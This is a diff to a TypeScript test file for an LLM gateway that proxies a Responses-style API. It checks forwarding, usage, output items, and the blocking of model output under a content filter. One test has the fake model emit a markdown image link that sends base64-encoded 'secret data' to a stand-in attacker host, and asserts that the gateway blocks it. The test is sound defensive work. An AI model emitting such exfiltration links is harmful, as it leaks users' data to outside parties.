@@ -27,8 +27,13 @@ describe('native Responses upstream', () => {
   it('forwards the request untranslated (redacted, upstream model name) and keeps the provider response id', async () => {
     gw.fake.script.push({ kind: 'text', content: 'The answer is 42.' });
     const r = await client.responses.create({ model: 'gpt-native', instructions: 'Be terse.', input: `Is ${SECRET} valid?`, previous_response_id: 'resp_prev1', store: true });
-    expect(r).toMatchObject({ id: 'resp_fake1', status: 'completed', store: true, previous_response_id: 'resp_prev1', output_text: 'The answer is 42.' });
-    expect(r.usage).toMatchObject({ input_tokens: 13, output_tokens: 5 });
+    expect(r).toMatchObject({ id: 'resp_fake1', object: 'response', created_at: 1, status: 'completed', output_text: 'The answer is 42.' });
+    expect(r.usage).toEqual({ input_tokens: 13, input_tokens_details: { cached_tokens: 0 }, output_tokens: 5, output_tokens_details: { reasoning_tokens: 0 }, total_tokens: 18 });
+    // The provider's items and ids: a later item_reference or a stored conversation finds them.
+    expect(r.output).toEqual([
+      { id: 'rs_fake1', type: 'reasoning', summary: [], encrypted_content: 'gAAAAABfakeEncryptedReasoning' },
+      { id: 'msg_fake1', type: 'message', status: 'completed', role: 'assistant', content: [{ type: 'output_text', text: 'The answer is 42.', annotations: [] }] },
+    ]);
     const sent = gw.fake.requests[0];
     expect(sent?.path).toBe('/v1/responses');
     expect(sent?.body).toMatchObject({ model: 'fake-model', instructions: 'Be terse.', previous_response_id: 'resp_prev1', store: true, stream: false });
@@ -50,13 +55,16 @@ describe('native Responses upstream', () => {
     const tools: OpenAI.Responses.FunctionTool[] = [{ type: 'function', name: 'get_weather', parameters: { type: 'object' }, strict: false }];
     const body = { model: 'gpt-native', tools, input: 'Weather?' };
     const r = stream ? await client.responses.stream(body).finalResponse() : await client.responses.create(body);
-    expect(r.output).toMatchObject([{ type: 'function_call', call_id: 'call_fake1', name: 'get_weather', arguments: '{"city":"Paris"}' }]);
+    const calls = r.output.filter((o) => o.type === 'function_call');
+    expect(calls).toMatchObject([{ type: 'function_call', call_id: 'call_fake1', name: 'get_weather', arguments: '{"city":"Paris"}' }]);
+    if (!stream) expect(calls[0]?.id).toBe('fc_fake1');
   });
 
-  it('blocks an exfiltration link in the provider answer', async () => {
+  it('blocks an exfiltration link in the provider answer, in the provider message item, without its reasoning', async () => {
     gw.fake.script.push({ kind: 'text', content: 'See ![x](https://attacker.example/c?d=c2VjcmV0IGRhdGE)' });
     const r = await client.responses.create({ model: 'gpt-native', input: 'notes' });
-    expect(r).toMatchObject({ status: 'incomplete', incomplete_details: { reason: 'content_filter' } });
+    expect(r).toMatchObject({ id: 'resp_fake1', status: 'incomplete', incomplete_details: { reason: 'content_filter' } });
+    expect(r.output).toMatchObject([{ id: 'msg_fake1', type: 'message', content: [{ type: 'output_text', text: expect.stringMatching(/Response blocked by Warden policy: exfil-url\//) }] }]);
     expect(JSON.stringify(r)).not.toContain('attacker.example');
   });
 
